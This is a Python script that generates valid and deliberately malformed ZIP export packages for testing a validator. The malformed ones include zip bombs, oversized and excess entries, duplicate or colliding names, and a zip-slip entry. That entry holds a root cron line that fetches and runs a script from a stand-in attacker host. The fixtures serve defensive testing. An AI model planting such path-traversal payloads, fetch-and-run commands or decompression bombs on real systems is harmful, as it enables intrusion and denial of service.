#!/usr/bin/env python3
"""Rebuild every .zip sample (export packages) from samples/src/.

valid/export-package.zip            batch.xml + vedtak.pdf + vedlegg.txt
invalid/zip-slip.zip                an entry named ../../evil.txt            (PKG001)
invalid/zip-two-batches.zip         two XML files at the root                 (PKG002)
invalid/zip-no-batch.zip            attachments but no batch XML              (PKG002)
invalid/zip-entry-too-large.zip     a 101 MiB attachment of moderate ratio    (PKG003)
invalid/zip-too-many-entries.zip    10 001 entries                            (PKG004)
invalid/zip-bomb.zip                2 GiB of zeros deflated to ~2 MB          (PKG005)
invalid/zip-bomb-small.zip          256 MiB of zeros deflated to ~250 KB      (PKG005)
invalid/zip-batch-bomb.zip          the batch XML itself: 100 MiB of blanks   (PKG005)
invalid/zip-truncated.zip           the first half of export-package.zip      (PKG006)
invalid/zip-missing-attachment.zip  batch names vedlegg.txt, zip lacks it     (DPV015)
invalid/zip-attachment-too-large.zip
                                    batch.xml with a 101 MiB attachment inline
                                    as base64 (135 MB of XML, 1.5 MB zipped)  (DPV013)
invalid/zip-batch-behind-backslash.zip
                                    old\batch.xml beside batch.xml           (PKG007)
invalid/zip-folder.zip              an attachment in a folder: vedlegg/kart.pdf (PKG007)
invalid/zip-duplicate-names.zip     two entries named vedtak.pdf              (PKG008)
invalid/zip-case-collision.zip      vedtak.pdf and Vedtak.PDF                 (PKG008)
invalid/zip-nfc-collision.zip       vilkår.txt composed (NFC) and decomposed  (PKG008)

Deterministic: fixed timestamps, seeded pseudo-random data, so a rebuild gives
the same bytes. Nothing large is ever held in memory or written unzipped.
Run from anywhere: python3 samples/src/make-zips.py
(`make-zips.py names` rebuilds only the ambiguous-name samples, in a second.)
"""
import base64
import random
import sys
import warnings
import zipfile
from pathlib import Path

SRC = Path(__file__).resolve().parent
SAMPLES = SRC.parent
PKG = SRC / "export-package"
STAMP = (2026, 12, 1, 2, 0, 0)


def info(name, level=6):
    zi = zipfile.ZipInfo(name, date_time=STAMP)
    zi.compress_type = zipfile.ZIP_DEFLATED
    zi.external_attr = 0o644 << 16
    # What ZipFile.open(zinfo, "w") compresses with (Python 3.13 renamed it
    # compress_level and kept this name as an alias).
    zi._compresslevel = level
    return zi


def add(zf, name, data, level=6):
    zf.writestr(info(name), data, compresslevel=level)


def add_stream(zf, name, chunks, level=9):
    """Write an entry from an iterator of byte chunks (force_zip64: > 2 GiB is fine)."""
    with zf.open(info(name, level), "w", force_zip64=True) as out:
        for chunk in chunks:
            out.write(chunk)


def build(path, entries):
    path.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for entry in entries:
            entry(zf)
    print(f"wrote {path.relative_to(SAMPLES)} ({path.stat().st_size} bytes)")


def file_entry(name, source=None):
    data = (PKG / (source or name)).read_bytes()
    return lambda zf: add(zf, name, data)


def zeros(total, chunk=1 << 20):
    block = bytes(chunk)
    left = total
    while left > 0:
        n = min(chunk, left)
        yield block if n == chunk else bytes(n)
        left -= n


def sparse_noise(total, seed=4711, chunk=1 << 16):
    """Zeros with a little seeded noise: deflates at roughly 150:1, so it is
    refused for its size (PKG003) and not for its ratio (PKG005)."""
    rng = random.Random(seed)
    left = total
    while left > 0:
        n = min(chunk, left)
        buf = bytearray(n)
        for i in range(0, n, 1024):
            buf[i : i + 6] = rng.randbytes(6)[: max(0, min(6, n - i))]
        yield bytes(buf)
        left -= n


def base64_lines(chunks):
    """Base64 in 76-column lines from a stream of bytes (whole lines per chunk)."""
    rest = b""
    for chunk in chunks:
        data = rest + chunk
        cut = len(data) - len(data) % 57
        rest = data[cut:]
        for i in range(0, cut, 57 * 1024):
            yield base64.encodebytes(data[i : min(cut, i + 57 * 1024)])
    if rest:
        yield base64.encodebytes(rest)


def big_inline_batch(size):
    """batch.xml whose one attachment is `size` bytes, inline as base64."""
    head, tail = (SRC / "attachment-too-large.xml").read_bytes().split(b"@DATA@\n")
    yield head
    yield from base64_lines(sparse_noise(size, seed=815))
    yield tail


def blank_batch(size):
    """A batch XML padded with `size` bytes of blanks inside the root element."""
    yield (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<Correspondences xmlns="http://schemas.altinn.no/services/intermediary/correspondence/2009/10">\n'
        b"  <SystemUserCode>BRG-4601</SystemUserCode>\n"
        b"  <ShipmentReference>BRG-BLANKS</ShipmentReference>\n"
    )
    for chunk in zeros(size):
        yield chunk.replace(b"\0", b" ")
    yield b"</Correspondences>\n"


def ambiguous_names(invalid, batch, pdf, txt):
    """Packages whose names leave doubt about which entry is which."""
    # zipfile warns about duplicate names and writes them all the same.
    warnings.filterwarnings("ignore", "Duplicate name")
    other = (PKG / "batch.xml").read_bytes().replace(b"BEV-2026-331907", b"NOT-VALIDATED-1")
    behind = lambda zf: add(zf, "old\\batch.xml", other)
    build(invalid / "zip-batch-behind-backslash.zip", [behind, batch, pdf, txt])

    folder = lambda zf: add(zf, "vedlegg/kart.pdf", b"%PDF-1.4 kart\n")
    build(invalid / "zip-folder.zip", [batch, pdf, txt, folder])

    second = lambda zf: add(zf, "vedtak.pdf", b"%PDF-1.4 not the one validated\n" * 100)
    build(invalid / "zip-duplicate-names.zip", [batch, pdf, txt, second])

    upper = lambda zf: add(zf, "Vedtak.PDF", b"%PDF-1.4 other\n")
    build(invalid / "zip-case-collision.zip", [batch, pdf, txt, upper])

    nfc = lambda zf: add(zf, "vilk\u00e5r.txt", b"composed\n")
    nfd = lambda zf: add(zf, "vilka\u030ar.txt", b"decomposed\n")
    build(invalid / "zip-nfc-collision.zip", [batch, pdf, txt, nfc, nfd])


def main():
    valid = SAMPLES / "valid"
    invalid = SAMPLES / "invalid"
    batch = file_entry("batch.xml")
    pdf = file_entry("vedtak.pdf")
    txt = file_entry("vedlegg.txt")

    ambiguous_names(invalid, batch, pdf, txt)
    if sys.argv[1:] == ["names"]:
        return

    build(valid / "export-package.zip", [batch, pdf, txt])

    evil = lambda zf: add(zf, "../../evil.txt", b"* * * * * root curl http://evil.example/x | sh\n")
    build(invalid / "zip-slip.zip", [batch, pdf, txt, evil])

    build(invalid / "zip-two-batches.zip", [batch, file_entry("batch-2.xml", "batch.xml"), pdf, txt])

    build(invalid / "zip-no-batch.zip", [pdf, txt])

    big = lambda zf: add_stream(zf, "vedtak.pdf", sparse_noise(101 * 1024 * 1024), level=9)
    build(invalid / "zip-entry-too-large.zip", [batch, big, txt])

    def many(zf):
        for i in range(10_000):
            add(zf, f"vedlegg-{i:05}.txt", b"")
    build(invalid / "zip-too-many-entries.zip", [batch, many])

    bomb = lambda zf: add_stream(zf, "vedtak.pdf", zeros(2 * 1024 * 1024 * 1024), level=9)
    build(invalid / "zip-bomb.zip", [batch, bomb, txt])

    bomb = lambda zf: add_stream(zf, "vedtak.pdf", zeros(256 * 1024 * 1024), level=9)
    build(invalid / "zip-bomb-small.zip", [batch, bomb, txt])

    inflated = lambda zf: add_stream(zf, "batch.xml", blank_batch(100 * 1024 * 1024), level=9)
    build(invalid / "zip-batch-bomb.zip", [inflated, pdf, txt])

    whole = (valid / "export-package.zip").read_bytes()
    (invalid / "zip-truncated.zip").write_bytes(whole[: len(whole) // 2])
    print(f"wrote invalid/zip-truncated.zip ({len(whole) // 2} bytes)")

    build(invalid / "zip-missing-attachment.zip", [batch, pdf])

    inline = lambda zf: add_stream(zf, "batch.xml", big_inline_batch(101 * 1024 * 1024), level=9)
    build(invalid / "zip-attachment-too-large.zip", [inline])


if __name__ == "__main__":
    main()
